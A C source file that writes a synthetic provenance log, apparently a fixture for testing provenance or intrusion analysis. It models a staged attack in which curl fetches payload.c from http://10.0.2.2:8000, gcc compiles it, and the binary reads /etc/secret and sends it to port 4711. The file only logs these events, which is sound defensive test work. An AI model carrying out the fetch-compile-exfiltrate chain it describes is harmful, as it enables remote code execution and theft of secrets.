// SPDX-License-Identifier: GPL-2.0
/* A small log.  Ids: processes below 100, files from 100, sockets from 200. */
#include <netinet/in.h>
#include <sys/socket.h>

#include "logbuild.h"
#include "sample.h"

#define D PROV_R_EDGE_DATA
#define M PROV_R_EDGE_META
#define C PROV_R_EDGE_CONTROL
#define AT(ms) (10 * LOG_SECOND + (ms) * 1000000ull)

static void exec_image(struct logbuild *log, uint64_t time, uint64_t id, uint64_t before,
		       uint32_t before_version, uint32_t pid, uint64_t start, uint64_t binary,
		       const char *exe, const char *const *argv)
{
	log_process(log, time, id, pid, 1, start);
	log_text(log, time, id, PROV_T_EXE, exe);
	log_argv(log, time, id, argv, 24);
	log_edge(log, time, D, PROV_OP_EXEC, before, before_version, id, 0);
	log_edge(log, time, D, PROV_OP_EXEC, binary, 0, id, 0);
}

static void named_file(struct logbuild *log, uint64_t time, uint64_t id, uint64_t ino,
		       uint8_t how, const char *path)
{
	log_inode(log, time, id, PROV_K_FILE, ino, 1);
	log_text(log, time, id, how, path);
}

void sample_write(const char *directory)
{
	static const char *const bash[] = { "-bash", NULL };
	static const char *const curl[] = {
		"curl", "-o", "/tmp/payload.c", "http://10.0.2.2:8000/payload.c", NULL
	};
	static const char *const gcc[] = { "gcc", "-o", "/tmp/payload", "/tmp/payload.c", NULL };
	static const char *const payload[] = { "/tmp/payload", NULL };
	struct logbuild *const log = log_begin(directory);

	named_file(log, AT(0), 100, 10, PROV_T_OPEN, "/usr/bin/bash");
	named_file(log, AT(0), 101, 11, PROV_T_OPEN, "/usr/bin/curl");
	named_file(log, AT(0), 102, 12, PROV_T_OPEN, "/usr/bin/gcc");
	named_file(log, AT(0), 103, 13, PROV_T_OPEN, "/usr/lib/x86_64-linux-gnu/libc.so.6");
	named_file(log, AT(0), 104, 14, PROV_T_OPEN, "/etc/secret");
	named_file(log, AT(0), 107, 17, PROV_T_OPEN, "/etc/hostname");

	log_process(log, AT(1), 1, 1, 0, 0);
	log_text(log, AT(1), 1, PROV_T_COMM, "init");
	log_process(log, AT(2), 2, 100, 1, AT(2));
	log_edge(log, AT(2), D, PROV_OP_FORK, 1, 0, 2, 0);
	exec_image(log, AT(3), 3, 2, 0, 100, AT(2), 100, "/usr/bin/bash", bash);
	log_cred(log, AT(3), 3, 1000, 1000);
	log_edge(log, AT(3), D, PROV_OP_MMAP, 103, 0, 3, 0);

	/* curl fetches the source */
	log_process(log, AT(100), 4, 101, 100, AT(100));
	log_edge(log, AT(100), D, PROV_OP_FORK, 3, 0, 4, 0);
	exec_image(log, AT(101), 5, 4, 0, 101, AT(100), 101, "/usr/bin/curl", curl);
	log_thread(log, 101, 101);
	log_edge(log, AT(101), D, PROV_OP_MMAP, 103, 0, 5, 0);
	log_cpu(log, 1);
	log_socket(log, AT(110), 200, AF_INET, SOCK_STREAM, IPPROTO_TCP);
	log_address(log, AT(110), 200, PROV_END_LOCAL, "10.0.2.15", 40000);
	log_address(log, AT(110), 200, PROV_END_REMOTE, "10.0.2.2", 8000);
	log_edge(log, AT(110), C, PROV_OP_CONNECT, 5, 0, 200, 0);
	log_edge(log, AT(111), D, PROV_OP_SEND, 5, 0, 200, 0);
	log_edge(log, AT(120), D, PROV_OP_RECV, 200, 0, 5, 1);
	log_inode(log, AT(121), 105, PROV_K_FILE, 15, 1);
	log_text(log, AT(121), 105, PROV_T_CREATE, "/tmp/payload.c");
	log_edge(log, AT(121), M, PROV_OP_CREATE, 5, 1, 105, 0);
	log_edge(log, AT(122), D, PROV_OP_WRITE, 5, 1, 105, 0);
	log_node_end(log, AT(125), 5, 0, 1);
	log_cpu(log, 0);

	/* gcc compiles it */
	log_process(log, AT(200), 6, 102, 100, AT(200));
	log_edge(log, AT(200), D, PROV_OP_FORK, 3, 0, 6, 0);
	exec_image(log, AT(201), 7, 6, 0, 102, AT(200), 102, "/usr/bin/gcc", gcc);
	log_edge(log, AT(201), D, PROV_OP_MMAP, 103, 0, 7, 0);
	log_edge(log, AT(210), D, PROV_OP_READ, 105, 0, 7, 0);
	log_inode(log, AT(220), 106, PROV_K_FILE, 16, 1);
	log_text(log, AT(220), 106, PROV_T_CREATE, "/tmp/payload");
	log_edge(log, AT(220), M, PROV_OP_CREATE, 7, 0, 106, 0);
	log_edge(log, AT(221), D, PROV_OP_WRITE, 7, 0, 106, 0);
	log_node_end(log, AT(225), 7, 0, 0);

	/* it runs, reads the secret, sends it, and reads something else after that */
	log_process(log, AT(300), 8, 103, 100, AT(300));
	log_edge(log, AT(300), D, PROV_OP_FORK, 3, 0, 8, 0);
	exec_image(log, AT(301), 9, 8, 0, 103, AT(300), 106, "/tmp/payload", payload);
	log_edge(log, AT(301), D, PROV_OP_MMAP, 103, 0, 9, 0);
	log_edge(log, AT(310), D, PROV_OP_READ, 104, 0, 9, 0);
	log_socket(log, AT(320), 201, AF_INET, SOCK_STREAM, IPPROTO_TCP);
	log_address(log, AT(320), 201, PROV_END_LOCAL, "10.0.2.15", 40001);
	log_address(log, AT(320), 201, PROV_END_REMOTE, "10.0.2.2", 4711);
	log_edge(log, AT(320), C, PROV_OP_CONNECT, 9, 0, 201, 0);
	log_edge(log, AT(321), D, PROV_OP_SEND, 9, 0, 201, 0);
	log_edge(log, AT(330), D, PROV_OP_READ, 107, 0, 9, 1);
	log_node_end(log, AT(340), 9, 0, 1);
	log_end(log);
}
